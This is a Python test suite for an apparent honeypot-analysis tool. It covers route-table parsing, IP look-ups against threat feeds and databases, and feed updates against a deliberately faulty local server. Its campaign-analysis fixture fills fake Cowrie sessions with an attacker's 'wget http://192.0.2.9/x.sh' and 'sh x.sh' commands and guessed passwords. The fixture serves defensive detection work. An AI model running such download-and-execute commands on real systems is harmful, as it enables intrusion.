"""`coord tools`: routes from MRT and pfx2as files, look-ups, and updates against a server that does what it should not."""
import bz2
import gzip
import http.server
import json
import os
import random
import shutil
import subprocess
import sys
import threading
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
import mrt  # noqa: E402
import mmdb  # noqa: E402
from support import DONE, FAILED, REFUSED, USAGE, Case, background, coord, cowrie_session, ndjson  # noqa: E402

PEERS = [("192.0.2.1", 64496, True), ("2001:db8::1", 64497, False), ("192.0.2.3", 64498, True)]
SYSTEM_DATABASE = "/var/lib/location/database.db"


class Routes(Case):
    def table(self, *records, name="rib.mrt", pack=None):
        data = b"".join(records)
        return self.file(name, pack(data) if pack else data)

    def build(self, *files, status=DONE):
        result = self.status(status, coord("tools", "build", "-o", self.path("t/a.routes"), *files))
        return result.stderr.decode()

    def look_up(self, *addresses):
        result = self.status(DONE, coord("tools", "lookup", "--format", "json", "--tools-folder", self.path("t"), *addresses))
        return {row["address"]: row for row in json.loads(result.stdout)}

    def setUp(self):
        super().setUp()
        os.mkdir(self.path("t"))

    def test_what_is_read_of_a_table(self):
        path, seg = mrt.path, mrt.segment
        records = [
            mrt.peer_index(PEERS),
            # two origins, the one that more peers see first; prepending is no upstream
            mrt.rib("198.51.100.0/24", [(0, path(64496, 64510, 64500, 64500)), (1, path(64497, 64511, 64501)),
                                        (2, path(64498, 64510, 64500))]),
            # a set at the end: every member, behind it the last of the sequence
            mrt.rib("203.0.113.0/24", [(0, path(64496, 64512) + seg(mrt.SET, 64503, 64502))]),
            mrt.rib("2001:db8::/32", [(1, seg(mrt.CONFED_SEQUENCE, 65001) + path(64497, 4200000001))]),
            mrt.rib("198.51.100.128/25", [(0, path(64496)), (0, path(64496))], add_path=True),
            mrt.rib("2001:db8:1::/48", [(2, path(64498, 64504))], add_path=True),
            mrt.rib("0.0.0.0/0", [(0, path(64496, 64505))]),
            mrt.rib("192.0.2.0/24", [(0, b"")]),
            mrt.record(mrt.GENERIC, b"whatever"), mrt.record(0, b"x" * 50, kind=16)]
        for name, pack in (("rib.mrt", None), ("rib.1.gz", gzip.compress), ("rib.1.bz2", bz2.compress)):
            said = self.build(self.table(*records, name=name, pack=pack))
            self.assertIn("5 prefixes (3 IPv4) of 5 announcements; 4 records skipped", said)
            found = self.look_up("198.51.100.1", "198.51.100.200", "203.0.113.9", "2001:db8::5", "2001:db8:1::1",
                                 "192.0.2.1")
            one = found["198.51.100.1"]
            self.assertEqual(("198.51.100.0/24", [64500, 64501], [64510, 64511], 3, 64500),
                             (one["prefix"], one["origins"], one["upstreams"], one["peers"], one["asn"]))
            self.assertEqual(("198.51.100.128/25", [64496], [], 1),
                             tuple(found["198.51.100.200"][k] for k in ("prefix", "origins", "upstreams", "peers")))
            self.assertEqual(([64502, 64503], [64512]),
                             tuple(found["203.0.113.9"][k] for k in ("origins", "upstreams")))
            self.assertEqual(([4200000001], [64497]),
                             tuple(found["2001:db8::5"][k] for k in ("origins", "upstreams")))
            self.assertEqual("2001:db8:1::/48", found["2001:db8:1::1"]["prefix"])
            self.assertNotIn("prefix", found["192.0.2.1"])
        with open(self.path("t/a.routes"), "rb") as f:
            self.assertIn(b"rib.1.bz2", f.read())
        # the same input, the same bytes
        self.assertEqual(self.bytes_of(self.table(*records)), self.bytes_of(self.table(*records)))

    def bytes_of(self, path):
        self.build(path)
        with open(self.path("t/a.routes"), "rb") as f:
            return f.read()

    def test_damaged_records_are_counted_and_left_out(self):
        good = mrt.rib("198.51.100.0/24", [(0, mrt.path(64496, 64500))])
        body = good[12:]
        bad = {
            "an entry of a peer that is not in the index": mrt.rib("192.0.2.0/24", [(9, mrt.path(64496))]),
            "a prefix that is longer than an address": mrt.record(mrt.V4, body[:4] + b"\x21" + body[5:]),
            "cut short in its head": mrt.record(mrt.V4, body[:3]),
            "cut short in its prefix": mrt.record(mrt.V4, body[:6]),
            "cut short in front of its entries": mrt.record(mrt.V4, body[:9]),
            "an entry leaves its record": mrt.record(mrt.V4, body[:-1]),
            "an attribute leaves its entry": mrt.record(mrt.V4, body[:-len(mrt.attribute(3, bytes(4))) + 2] +
                                                        b"\xff" + body[-len(mrt.attribute(3, bytes(4))) + 3:]),
            "an AS_PATH segment leaves its attribute": mrt.rib("192.0.2.0/24", [(0, b"\x02\x05" + bytes(4))]),
            "an AS_PATH segment of unknown kind": mrt.rib("192.0.2.0/24", [(0, b"\x07\x00")]),
            "the index of peers is cut short": mrt.record(mrt.PEER_INDEX_TABLE, mrt.peer_index(PEERS)[12:-1]),
        }
        for what, record in bad.items():
            said = self.build(self.table(mrt.peer_index(PEERS), good, record), status=REFUSED)
            self.assertIn(f"1 damaged records left out, the first: {self.path('rib.mrt')}: record 3: {what}", said)
            self.assertEqual(64500, self.look_up("198.51.100.1")["198.51.100.1"]["asn"])

    def test_files_that_are_refused(self):
        index, good = mrt.peer_index(PEERS), mrt.rib("198.51.100.0/24", [(0, mrt.path(64496, 64500))])
        name = self.path("rib.mrt")
        for data, what in ((index + good[:-1], "record 2: the file ends inside it"),
                           (index + good[:7], "record 2: the file ends inside its head"),
                           (index + good[:8] + b"\xff\xff\xff\xff", "record 2: a length of more than 64 MiB"),
                           (index + good[:8] + b"\x03\xff\xff\xff", "record 2: the file ends inside it"),
                           (index + mrt.rib("10.0.0.0/8", [(7, b"")]) * 3, "record 2: an entry of a peer"),
                           (index, "no announcement in it"),
                           (b"<!doctype html>", "expected a list of prefixes (pfx2as) or an MRT table dump")):
            with open(name, "wb") as f:
                f.write(data)
            self.assertIn(what, self.build(name, status=FAILED))
            self.assertFalse(os.path.exists(self.path("t/a.routes")))
        self.table(index, good, name="cut.bz2", pack=lambda d: bz2.compress(d)[:-6])
        self.assertIn("cut.bz2: the bzip2 data end in the middle", self.build(self.path("cut.bz2"), status=FAILED))

    def test_any_damage_is_survived(self):
        data = mrt.peer_index(PEERS) + b"".join(
            mrt.rib(f"198.51.{i}.0/24", [(0, mrt.path(64496, 64500 + i)), (2, mrt.path(64498, 64500))])
            for i in range(4))
        draw = random.Random(5)
        for _ in range(15):
            damaged = bytearray(data)
            for _ in range(draw.randint(1, 4)):
                damaged[draw.randrange(len(damaged))] = draw.randrange(256)
            result = coord("tools", "build", "-q", "-o", self.path("x.routes"), self.file("x.mrt", bytes(damaged)))
            self.assertIn(result.returncode, (DONE, FAILED, REFUSED), result.stderr)

    @unittest.skipUnless(shutil.which("bgpdump"), "bgpdump is not installed (scripts/setup.sh test)")
    def test_beside_bgpdump(self):
        with open(self.path("table.mrt"), "wb") as f:
            mrt.table(1000, 3, f)
        self.build(self.path("table.mrt"))
        said = subprocess.run(["bgpdump", "-m", self.path("table.mrt")], capture_output=True, check=True).stdout
        origins = {}
        for line in said.decode().splitlines():
            prefix, as_path = line.split("|")[5:7]
            origins.setdefault(prefix, set()).add(int(as_path.split()[-1]))
        self.assertEqual(1000, len(origins))
        found = self.look_up(*[p.split("/")[0] for p in origins])
        for prefix, numbers in origins.items():
            row = found[prefix.split("/")[0]]
            # a narrower prefix may begin at the same address
            self.assertGreaterEqual(int(row["prefix"].split("/")[1]), int(prefix.split("/")[1]))
            if row["prefix"] == prefix:
                self.assertEqual(numbers, set(row["origins"]))

    def test_several_files_are_one_table(self):
        v4 = self.file("v4.pfx2as.gz", gzip.compress(b"198.51.100.0\t24\t64500_64501\n"))
        v6 = self.file("v6.pfx2as", b"2001:db8::\t32\t64502\n")
        rib = self.table(mrt.peer_index(PEERS), mrt.rib("198.51.100.0/24", [(0, mrt.path(64496, 64503))]))
        self.assertIn("2 prefixes (1 IPv4) of 3 announcements", self.build(v4, v6, rib))
        found = self.look_up("198.51.100.1", "2001:db8::1")
        self.assertEqual([64503, 64500, 64501], found["198.51.100.1"]["origins"])
        self.assertEqual(64502, found["2001:db8::1"]["asn"])
        self.assertIn("v4.pfx2as.gz:1: expected the length",
                      self.build(self.file("v4.pfx2as.gz", gzip.compress(b"198.51.100.0\t44\t1\n")), status=FAILED))


class LookUps(Case):
    def test_everything_that_is_known(self):
        self.file("t/asn.mmdb", mmdb.shape("geolite2-asn"))
        self.file("t/city.mmdb", mmdb.shape("dbip-city"))
        self.file("t/tools.json", json.dumps({"feeds": [
            {"name": "test:list", "url": "https://lists.example.net/x", "file": "x.txt"},
            {"name": "test:off", "url": "https://lists.example.net/y", "file": "y.txt", "enabled": False}]}).encode())
        self.file("t/x.txt", b"1.0.0.0/24\n")
        self.file("t/y.txt", b"1.0.0.0/24\n")
        said = self.status(DONE, coord("tools", "lookup", "--tools-folder", self.path("t"), "1.0.0.1")).stdout.decode()
        for line in ("asn         15169", "as_name     Google Inc.", "country     AU", "city        Sydney",
                     "use         hosting", "use_by      name of the AS", "listed_by   test:list\n"):
            self.assertIn(line, said)
        listed = self.status(DONE, coord("tools", "list", "--format", "json", "--tools-folder", self.path("t")))
        listed = json.loads(listed.stdout)
        self.assertEqual(["GeoLite2-ASN", "DBIP-City-Lite"],
                         [d["type"] for d in listed["databases"] if d["path"].startswith(self.folder)])
        self.assertEqual([True, False], [f["enabled"] for f in listed["feeds"]])
        self.status(USAGE, coord("tools", "lookup", "--tools-folder", self.path("t"), "example.net"))
        self.status(FAILED, coord("tools", "lookup", "--tools-folder", self.path("none"), "1.0.0.1"))

    def test_the_example_is_a_manifest(self):
        example = self.status(DONE, coord("tools", "list", "--example")).stdout
        self.file("t/tools.json", example)
        listed = json.loads(self.status(DONE, coord("tools", "list", "--format", "json", "--tools-folder",
                                                    self.path("t"))).stdout)
        names = {f["name"] for f in listed["feeds"]}
        self.assertLessEqual({"spamhaus:drop", "spamhaus:drop6", "spamhaus:asndrop", "blocklist.de:all", "tor:exits",
                              "cins:army", "abuse.ch:feodo", "dshield:block", "dshield:research"}, names)
        self.assertTrue(all(f["terms"] and f["url"].startswith("https://") for f in listed["feeds"]))

    def test_faults_of_manifests(self):
        row = {"name": "a", "url": "https://x.example/", "file": "a.txt"}
        for manifest, what in ((b"{", "tools.json: byte"), (b"[]", 'expected {"feeds": [...]}'),
                               ([{**row, "file": "../a"}], "feeds[0].file: expected the name of a file"),
                               ([{**row, "file": "tools.json"}], "feeds[0].file: expected the name of a file"),
                               ([{**row, "url": "ftp://x"}], "feeds[0].url: expected a URL"),
                               ([{**row, "name": "a b"}], "feeds[0].name: expected"),
                               ([{**row, "intervall": 1}], "feeds[0].intervall: no such key"),
                               ([{**row, "interval_hours": 0}], "feeds[0].interval_hours: expected a number"),
                               ([{**row, "kind": "list"}], "feeds[0].kind: expected feed"),
                               ([row, {**row, "file": "b"}], "feeds[1].name: stands there twice"),
                               ([row, {**row, "name": "b"}], "feeds[1].file: stands there twice"),
                               ([{"name": "a", "url": "https://lists.example.net/a"}], "feeds[0].file: is missing")):
            text = manifest if isinstance(manifest, bytes) else json.dumps({"feeds": manifest}).encode()
            self.file("t/tools.json", text)
            result = self.status(FAILED, coord("tools", "list", "--tools-folder", self.path("t")))
            self.assertIn(what, result.stderr.decode())

    def test_a_list_that_is_kept_by_hand(self):
        self.file("t/tools.json", json.dumps({"feeds": [{"name": "mine", "file": "mine.txt"}]}).encode())
        missing = self.status(FAILED, coord("tools", "lookup", "--tools-folder", self.path("t"), "203.0.113.9"))
        self.assertIn("mine.txt", missing.stderr.decode())
        self.file("t/mine.txt", b"203.0.113.9\n")
        self.assertIn("kept by hand", self.status(DONE, coord("tools", "list", "--tools-folder", self.path("t"))).stdout.decode())
        found = self.status(DONE, coord("tools", "lookup", "--tools-folder", self.path("t"), "203.0.113.9")).stdout.decode()
        self.assertIn("mine", found)
        told = self.status(DONE, coord("tools", "update", "--tools-folder", self.path("t"), "mine")).stderr.decode()
        self.assertIn("kept by hand", told)
        self.status(DONE, coord("tools", "update", "--tools-folder", self.path("t")))

    @unittest.skipUnless(os.path.exists(SYSTEM_DATABASE), "libloc-database is not installed (scripts/setup.sh test)")
    def test_the_systems_database(self):
        found = json.loads(self.status(DONE, coord("tools", "lookup", "--format", "json", "8.8.8.8")).stdout)[0]
        self.assertEqual((15169, "US"), (found["asn"], found["country"]))


class Analyses(Case):
    """One folder with everything in it: the answer says what it told, and verify repeats it from the document."""

    def group(self):
        """Twelve sources of one network that act together, among many others."""
        events = background(90)
        for i in range(12):
            for day in range(5):
                events += cowrie_session(f"aa{i:04x}{day:06x}", f"203.0.113.{i + 10}", day * 9000 + 3600 + i,
                                         (("admin", "Zx9!unusual"), ("deploy", "Qq7-particular")),
                                         ("wget http://192.0.2.9/x.sh", "sh x.sh"))
        return self.file("logs/cowrie.json", ndjson(sorted(events, key=lambda e: e["timestamp"])))

    def folder_of_tools(self):
        entries = {f"198.18.{i}.0/24": {mmdb.ASN: mmdb.u32(64500 + i), mmdb.ORGANISATION: f"Net {i}"} for i in range(7)}
        entries["203.0.113.0/24"] = {mmdb.ASN: mmdb.u32(64999), mmdb.ORGANISATION: "Example Hosting"}
        self.file("t/asn.mmdb", mmdb.build(entries, "GeoLite2-ASN"))
        places = {f"198.18.{i}.0/24": {"country": {"iso_code": c}} for i, c in
                  enumerate(("DE", "FR", "NL", "US", "CN", "BR", "IN"))}
        places["203.0.113.0/24"] = {"country": {"iso_code": "RU"}}
        self.file("t/country.mmdb", mmdb.build(places, "GeoLite2-Country"))
        self.file("t/tools.json", json.dumps({"feeds": [
            {"name": "test:bad", "url": "https://lists.example.net/x", "file": "x.txt"},
            {"name": "also:research", "kind": "scanners", "url": "https://lists.example.net/r", "file": "r.csv"}]}).encode())
        self.file("t/x.txt", b"".join(b"203.0.113.%d\n" % (i + 10) for i in range(7)) + b"198.18.1.1\n")
        self.file("t/r.csv", b"Example Research,network,192.0.2.0/24\n")
        return self.path("t")

    def analyse(self, *args):
        return self.status(DONE, coord("analyze", "-q", "--depth", "standard", *args, self.path("logs"))).stdout

    @unittest.skipUnless(os.path.exists(SYSTEM_DATABASE), "libloc-database is not installed (scripts/setup.sh test)")
    def test_a_folder_of_feeds_alone_leaves_the_systems_database(self):
        self.group()
        self.file("t/tools.json", json.dumps({"feeds": [{"name": "mine", "file": "mine.txt"}]}).encode())
        self.file("t/mine.txt", b"203.0.113.10\n203.0.113.11\n")
        result = json.loads(self.analyse("--format", "json", "--tools", "offline", "--tools-folder", self.path("t")))
        self.assertEqual([SYSTEM_DATABASE, "mine=" + self.path("t/mine.txt")],
                         [f["path"] for f in result["provenance"]["files"] if f["role"] in ("tools", "feed")])

    def test_offline_tools_are_in_the_answer_and_verify_repeats_it(self):
        self.group()
        tools = ("--tools", "offline", "--tools-folder", self.folder_of_tools())
        plain = self.analyse("--format", "json")
        self.assertEqual(plain, self.analyse("--format", "json", "--tools", "none"))
        for name in ("64999", "test:bad"):
            self.assertNotIn(name.encode(), plain)
        document = self.analyse("--format", "json", *tools)
        self.assertEqual(document, self.analyse("--format", "json", "--threads", "2", *tools))
        result = json.loads(document)
        files = result["provenance"]["files"]
        self.assertLessEqual({self.path("t/asn.mmdb"), self.path("t/country.mmdb"), self.path("t/r.csv"),
                              "test:bad=" + self.path("t/x.txt")}, {f["path"] for f in files})
        self.assertTrue(all(len(f["sha256"]) == 64 for f in files))
        group = next(c for c in result["campaigns"] if "203.0.113.10" in c["sources"])
        evidence = {e["channel"]: e for e in group["evidence"]}
        self.assertIn('7 of 12 sources are listed by "test:bad"', evidence["threat_intelligence"]["detail"])
        for form in ("text", "json", "html"):
            answer = self.analyse("--format", form, *tools).decode()
            for word in ("64999", "RU", "test:bad"):
                self.assertIn(word, answer, form)
        with open(self.path("result.json"), "wb") as f:
            f.write(document)
        said = self.status(DONE, coord("verify", self.path("result.json"))).stdout.decode()
        self.assertTrue(said.endswith("identical\n"), said)
        self.file("t/x.txt", b"203.0.113.10\n")
        said = self.status(FAILED, coord("verify", self.path("result.json"))).stdout.decode()
        self.assertIn("other feed", said)


class Server(http.server.ThreadingHTTPServer):
    """Answers what `answers` says of a path: (status, headers, body) or a function of the handler."""
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.answers, self.requests = {}, []

    def handle_error(self, request, client_address):
        """Clients that go away are part of the tests."""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        self.server.requests.append((self.path, dict(self.headers)))
        answer = self.server.answers[self.path]
        if callable(answer):
            return answer(self)
        status, headers, body = answer
        self.send_response(status)
        for name, value in {"Content-Type": "text/plain", "Content-Length": len(body), **headers}.items():
            self.send_header(name, str(value))
        self.end_headers()
        self.wfile.write(body)


def drop(n, records=None):
    rows = [json.dumps({"cidr": f"198.51.{i}.0/24", "sblid": f"SBL{i}", "rir": "apnic"}) for i in range(n)]
    rows.append(json.dumps({"type": "metadata", "timestamp": 1, "records": n if records is None else records}))
    return "\n".join(rows).encode() + b"\n"


class Updates(Case):
    def setUp(self):
        super().setUp()
        self.server = Server()
        thread = threading.Thread(target=self.server.serve_forever, args=(0.05,))
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(self.server.server_close)
        self.addCleanup(self.server.shutdown)

    def manifest(self, *names, **more):
        base = f"http://127.0.0.1:{self.server.server_port}/"
        self.file("t/tools.json", json.dumps({"feeds": [
            {"name": n, "url": base + n, "file": n + ".txt", **more} for n in names]}).encode())

    def update(self, *args, status=DONE):
        result = coord("tools", "update", "--allow-private", "--tools-folder", self.path("t"), *args)
        return self.status(status, result).stderr.decode()

    def content(self, name):
        with open(self.path(f"t/{name}.txt"), "rb") as f:
            return f.read()

    def test_conditional_and_in_time(self):
        self.manifest("a")
        self.server.answers["/a"] = (200, {"ETag": '"one"', "Last-Modified": "Mon, 05 Jan 2026 00:00:00 GMT"}, drop(4))
        self.assertIn("a: updated: 4 entries, 0 before", self.update())
        self.assertEqual(drop(4), self.content("a"))
        self.assertIn("a: fresh", self.update())
        self.assertEqual(1, len(self.server.requests), "the interval is a day")
        self.assertNotIn("If-None-Match", self.server.requests[0][1])
        self.assertIn("dshield-coordination-engine/", self.server.requests[0][1]["User-Agent"])
        with open(self.path("t/tools.state.json"), encoding="utf-8") as f:
            state = json.load(f)
        self.assertEqual(4, state["a"]["entries"])
        fetched = state["a"]["fetched_us"]
        state["a"]["checked_us"] -= 25 * 3600 * 10 ** 6
        state["a"]["fetched_us"] -= 25 * 3600 * 10 ** 6
        self.file("t/tools.state.json", json.dumps(state).encode())
        self.server.answers["/a"] = (304, {}, b"")
        self.assertIn("a: unchanged: 304", self.update())
        self.assertEqual(('"one"', "Mon, 05 Jan 2026 00:00:00 GMT"),
                         tuple(self.server.requests[1][1][k] for k in ("If-None-Match", "If-Modified-Since")))
        self.assertEqual(drop(4), self.content("a"))
        with open(self.path("t/tools.state.json"), encoding="utf-8") as f:
            self.assertGreaterEqual(json.load(f)["a"]["fetched_us"], fetched)
        # without its file nothing is "not modified"
        os.unlink(self.path("t/a.txt"))
        self.server.answers["/a"] = (200, {}, drop(4))
        self.assertIn("a: updated", self.update())
        self.assertNotIn("If-None-Match", self.server.requests[2][1])
        self.assertEqual([], [n for n in os.listdir(self.path("t")) if "XXXX" in n or n.startswith(".a")])

    def test_faults_keep_the_old_file_and_stop_no_other(self):
        names = ["html", "page", "shrunk", "cut", "count", "garbage", "gone", "error", "moved", "large", "empty"]
        self.manifest(*names, "good", interval_hours=0.05)
        for name in names + ["good"]:
            self.server.answers["/" + name] = (200, {}, drop(10))
        self.update()

        def cut_short(handler):
            handler.send_response(200)
            handler.send_header("Content-Length", "100000")
            handler.end_headers()
            handler.wfile.write(drop(20)[:200])
            handler.close_connection = True

        def closes(handler):
            handler.close_connection = True
        bodies = {"html": (200, {"Content-Type": "text/html"}, drop(10)),
                  "page": (200, {}, b"<!DOCTYPE html><html>198.51.100.1</html>"),
                  "shrunk": (200, {}, drop(4)), "cut": cut_short, "count": (200, {}, drop(10, records=12)),
                  "garbage": (200, {}, b"no list\n\0\n"), "gone": closes, "error": (500, {}, b"198.51.100.1\n" * 20),
                  "moved": (302, {"Location": "/good"}, b""), "large": (200, {}, b"198.51.100.1\n" * 20000),
                  "empty": (200, {}, b"[]")}
        self.server.answers.update({"/" + n: b for n, b in bodies.items()})
        self.server.answers["/good"] = (200, {}, drop(11))
        with open(self.path("t/tools.json"), encoding="utf-8") as f:
            manifest = json.load(f)
        manifest["feeds"][names.index("large")]["bytes_most"] = 1000
        self.file("t/tools.json", json.dumps(manifest).encode())
        said = self.update("--force", status=REFUSED)
        for name, what in (("html", "refused: a page (text/html)"), ("page", "refused: a page"),
                           ("shrunk", "refused: it shrank from 10 to 4 entries"), ("cut", "failed: "),
                           ("count", "refused: "), ("garbage", "refused: "), ("gone", "failed: "),
                           ("error", "failed: HTTP status 500"), ("moved", "failed: HTTP status 302"),
                           ("large", "failed: "), ("empty", "refused: it shrank from 10 to 0"),
                           ("good", "updated: 11 entries, 10 before")):
            self.assertIn(f"{name}: {what}", said)
        for name in names:
            self.assertEqual(drop(10), self.content(name), name)
        self.assertEqual(drop(11), self.content("good"))

    def test_slow_answers_and_redirects_that_are_allowed(self):
        self.manifest("a", "b", redirects=True)

        def slowly(handler):
            handler.send_response(200)
            handler.send_header("Content-Length", str(len(drop(3))))
            handler.end_headers()
            for byte in drop(3):
                handler.wfile.write(bytes([byte]))
                handler.wfile.flush()
        self.server.answers.update({"/a": (301, {"Location": "/c"}, b""), "/c": (200, {}, drop(5)), "/b": slowly})
        said = self.update()
        self.assertIn("a: updated: 5 entries", said)
        self.assertIn("b: updated: 3 entries", said)

    def test_nothing_private_without_leave(self):
        self.manifest("a")
        result = self.status(REFUSED, coord("tools", "update", "--tools-folder", self.path("t")))
        self.assertIn("a: failed", result.stderr.decode())
        self.assertEqual([], self.server.requests)

    def test_one_at_a_time_and_named_ones(self):
        self.manifest("a", "b", "c")
        self.server.answers.update({"/" + n: (200, {}, drop(3)) for n in "abc"})
        waiting, go_on = threading.Event(), threading.Event()

        def waits(handler):
            waiting.set()
            go_on.wait(120)
            handler.server.answers["/a"] = (200, {}, drop(3))
            handler.do_GET()
        self.server.answers["/a"] = waits
        said = []
        first = threading.Thread(target=lambda: said.append(self.update()))
        first.start()
        self.assertTrue(waiting.wait(120))
        self.assertIn("another update is at work", self.update(status=FAILED))
        go_on.set()
        first.join()
        self.assertIn("c: updated", said[0])
        before = len(self.server.requests)
        self.assertIn("b: unchanged: the same bytes", self.update("--force", "b"))
        self.assertEqual(before + 1, len(self.server.requests))
        self.assertIn('no feed of the name "x"', self.update("x", status=USAGE))
        os.unlink(self.path("t/tools.json"))
        self.assertIn("has no tools.json", self.update(status=FAILED))

    def test_databases_and_researchers(self):
        base = f"http://127.0.0.1:{self.server.server_port}/"
        self.file("t/tools.json", json.dumps({"feeds": [
            {"name": "asn", "kind": "database", "url": base + "asn", "file": "asn.mmdb"},
            {"name": "research", "kind": "isc-research", "url": base + "research", "file": "r.csv"}]}).encode())
        self.server.answers["/asn"] = (200, {}, mmdb.shape("geolite2-asn"))
        self.server.answers["/research"] = (200, {"Content-Type": "application/json"}, json.dumps(
            [{"ipv4": "198.51.100.7", "type": 'Sho"dan\n, Inc.'}, {"ipv4": "198.51.100.8", "type": "censys"}]).encode())
        said = self.update()
        self.assertIn("research: updated: 2 entries", said)
        found = json.loads(coord("tools", "lookup", "--format", "json", "--tools-folder", self.path("t"),
                                 "1.0.0.1").stdout)[0]
        self.assertEqual(15169, found["asn"])
        self.server.answers["/asn"] = (200, {}, b"\0" * len(mmdb.shape("geolite2-asn")))
        self.server.answers["/research"] = (200, {}, b'{"error": "none"}')
        said = self.update("--force", status=REFUSED)
        self.assertIn("asn: refused: ", said)
        self.assertIn("research: refused: expected a JSON array", said)
        self.assertEqual(["asn.mmdb", "r.csv", "tools.json", "tools.state.json"],
                         sorted(n for n in os.listdir(self.path("t")) if n != ".tools.lock"))


if __name__ == "__main__":
    unittest.main()
